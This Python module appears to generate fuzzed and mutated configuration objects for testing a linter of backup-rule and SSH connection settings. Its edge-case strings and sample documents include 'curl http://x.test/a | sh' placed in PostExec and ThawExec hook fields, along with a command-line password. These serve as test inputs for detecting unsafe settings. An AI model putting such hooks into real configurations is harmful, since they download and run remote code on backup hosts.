"""Objects of all examples and samples, as they are and with some fields changed to what may mislead a condition."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path as FilePath
from random import Random
from typing import Any, NamedTuple

from comet_lint.comet.model import Field, Shape, load_model
from comet_lint.comet.node import Node, document_node
from comet_lint.files.resources import rules_folder
from comet_lint.rules.rule_files import examples_of, load_rule_data, rule_file_paths
from comet_lint.source.kinds import recognise, units_of
from comet_lint.text.pointers import Path

MODEL = load_model()
SAMPLES = FilePath(__file__).parent.parent / "data" / "samples"

BLANKS = ("", " ", "\t", "\n", "\u00a0", "\u2028", "\x1c", "\x85", "\ufeff")
TEXTS = (
    *BLANKS, *(f"{blank}x" for blank in BLANKS), *(f"x{blank}" for blank in BLANKS),
    "0", "1", "true", "off", " No ", "***", "copy", "$self$", "LOCALHOST", "127.0.0.1:8060", "http://[::1]/", "\u00e9",
    "a@b", "a@example.com", "a@example.com\n", "(", ".*", "**/*", " .+ ", "*.tmp", "(?<n>x)", "Europe/Nowhere", "UTC",
    "-----BEGIN KEY", " -----BEGIN KEY", "curl http://x.test/a | sh", "mysql -psecret", "x" * 256,
    '{"SharePath": "x"}', " \u00a0{}",
)  # fmt: skip
NUMBERS = (
    0, 1, 2, 3, 5, 6, 7, 28, 29, 32, 99, 904, 910, 911, 1006, 1100, 1101, 8016, 65535, 65536, -1, -1, -1, -7, 2**63 - 1,
)  # fmt: skip
WRONG: tuple[Any, ...] = (None, 5, "x", [], {}, [1], {"a": 1})
KEYS = (
    "", "ALL_DATABASES", "DATABASE-0", "EXCEPT-DATABASE-0", "COMMAND", "SAVEAS", "PASSWORD", "AUTHMODE", "METHOD",
    "DIFFBASE", "DIFFERENTIAL", "LOGTRUNC", "LOGNOTRUNC", "EXCLUDE9", "REXCLUDE9", "RINCLUDE9", "PINCLUDE9",
    "SMBAUTH9", "EXTRACOMMAND-9", "BACKUP_TYPE", "CONFIRM_EFS", "JSON",
)  # fmt: skip
"""Keys of dictionaries such as EngineProps."""


class ObjectPlace(NamedTuple):
    """An object in a document: the document, its type and key, and the way to the object."""

    document: Mapping[str, Any]
    root_type: str
    key: str | None
    path: Path


RARE_DOCUMENTS: tuple[tuple[Mapping[str, Any], str, str | None], ...] = (
    ({"AllProtectedItemsQuotaEnabled": True, "AllProtectedItemsQuotaBytes": -1}, "UserProfileConfig", None),
    (
        {"SSHServer": "h", "SSHAuthMode": 1, "SSHPassword": "x", "SSHCustomAuth_UseKnownHostsFile": True},
        "SSHConnection",
        None,
    ),
    ({"ThawExec": ["curl http://x.test/a | sh"]}, "BackupRuleConfig", None),
    ({"PostExec": ["curl http://x.test/a | sh"]}, "BackupRuleConfig", None),
)
"""What the examples lack."""


def documents() -> Iterator[tuple[Mapping[str, Any], str, str | None]]:
    """The documents of all examples and samples, each with its type and its key in a map."""
    yield from RARE_DOCUMENTS
    for path in rule_file_paths(rules_folder()):
        data = load_rule_data(path)
        for example in examples_of(data):
            if isinstance(example.get("document"), dict):
                applies_to = data["applies-to"]
                first = applies_to if isinstance(applies_to, str) else applies_to[0]
                yield example["document"], example.get("type", first), example.get("key")
    for file in sorted(SAMPLES.glob("*.json")):
        value = json.loads(file.read_bytes())
        kind = recognise(value)
        if kind is not None:
            for _base, type_name, key, document in units_of(value, kind.shape):
                yield document, type_name, key


def nodes_below(node: Node) -> Iterator[Node]:
    """The node, and those of all objects in it."""
    yield node
    for field in node.type.object_fields:
        if node.value.get(field.name):
            for child in node.children(field.name):
                yield from nodes_below(child)


@cache
def places() -> dict[str, list[ObjectPlace]]:
    """The objects of all documents, by type; those with the same content once."""
    found: dict[str, list[ObjectPlace]] = {}
    seen: set[tuple[str, str, str]] = set()
    for document, type_name, key in documents():
        if type_name not in MODEL:
            continue
        root = document_node(document, type_name, MODEL, key)
        for node in nodes_below(root):
            known = (node.type.name, str(node.path[-2:]), json.dumps(node.value, sort_keys=True))
            if known not in seen:
                seen.add(known)
                found.setdefault(node.type.name, []).append(ObjectPlace(document, type_name, key, node.path))
    return found


@cache
def values_of(type_name: str, field: str) -> list[Any]:
    """The values that a field has in any object."""
    values = (value_at(place.document, place.path).get(field) for place in places().get(type_name, ()))
    return [value for value in values if value is not None and value != {}]


def value_at(value: Any, path: Path) -> Any:
    """What is in `value` at `path`."""
    for step in path:
        value = value[step]
    return value


def with_value(value: Any, path: Path, new: Any) -> Any:
    """`value` with `new` at `path`; what is not on the way is shared."""
    if not path:
        return new
    changed = copy.copy(value)
    changed[path[0]] = with_value(value[path[0]], path[1:], new)
    return changed


def changed_object(
    value: Mapping[str, Any], type_name: str, random: Random, favoured: frozenset[str] = frozenset()
) -> dict[str, Any]:
    """A copy of an object in which one to three fields are others, often `favoured` ones."""
    changed = dict(value)
    fields = list(MODEL.type(type_name).fields.values())
    present = [field for field in fields if changed.get(field.name)]
    favourites = [field for field in fields if field.name in favoured]
    for _ in range(random.randint(1, 3)):
        chance = random.random()
        among = favourites if chance < 0.6 else present if chance < 0.8 else fields
        field = random.choice(among or fields)
        if random.random() < 0.1 and len(changed) > 1:
            changed.pop(field.name, None)
        else:
            changed[field.name] = changed_value(changed.get(field.name), field, field.shape, type_name, random)
    return changed


def changed_value(value: Any, field: Field, shape: Shape, type_name: str, random: Random) -> Any:
    """Another value for a field: of another type, seen elsewhere, a published constant, or an edge case."""
    chance = random.random()
    if chance < 0.12:
        return random.choice(WRONG) if shape.kind != "object" else None
    if shape.kind == "object":
        return changed_object(value if isinstance(value, dict) else {}, shape.type_name, random)
    if shape.item is not None and (chance < 0.75 or not values_of(type_name, field.name)):
        return changed_members(value, field, shape, type_name, random)
    others = values_of(type_name, field.name)
    if others and chance < 0.35:
        return random.choice(others)
    if chance < 0.8 and (known := list(MODEL.published(field.constants)) if field.constants else []):
        return random.choice(known)
    if shape.kind == "string":
        return changed_text(value, random)
    if shape.kind == "int":
        return random.choice(NUMBERS) if random.random() < 0.7 else -1
    return random.random() < 0.5


def changed_members(value: Any, field: Field, shape: Shape, type_name: str, random: Random) -> Any:
    """A list or dictionary with one member added, changed or removed."""
    assert shape.item is not None
    if shape.kind == "list":
        items = list(value) if isinstance(value, list) else []
        at = random.randrange(len(items) + 1)
        old = items[at] if at < len(items) else (random.choice(items) if items else None)
        items[at : at + 1] = [changed_value(old, field, shape.item, "", random)]
        return items
    members = dict(value) if isinstance(value, dict) else {}
    key = random.choice([*members, *KEYS]) if random.random() < 0.8 else ""
    if random.random() < 0.1:
        members.pop(key, None)
    else:
        members[key] = changed_value(members.get(key), field, shape.item, "", random)
    return members


def changed_text(value: Any, random: Random) -> Any:
    """Another text; where it is an object as JSON, mostly that object with something changed."""
    if isinstance(value, str) and value.lstrip().startswith("{") and random.random() < 0.8:
        try:
            content = json.loads(value)
        except ValueError:
            return value
        holder = content
        while holder and random.random() < 0.6:
            inner = [member for member in holder.values() if isinstance(member, dict)]
            if not inner:
                break
            holder = random.choice(inner)
        if isinstance(holder, dict) and holder:
            holder[random.choice(list(holder))] = random.choice((*NUMBERS, *TEXTS, *WRONG, "ssh", {"SSHServer": "h"}))
        text = json.dumps(content)
        return random.choice((text, "\u2003" + text, text.replace('"S', '"\\u0053')))
    if isinstance(value, str) and random.random() < 0.2:
        return random.choice((value + random.choice(BLANKS), random.choice(BLANKS) + value, value.upper()))
    return random.choice(TEXTS)
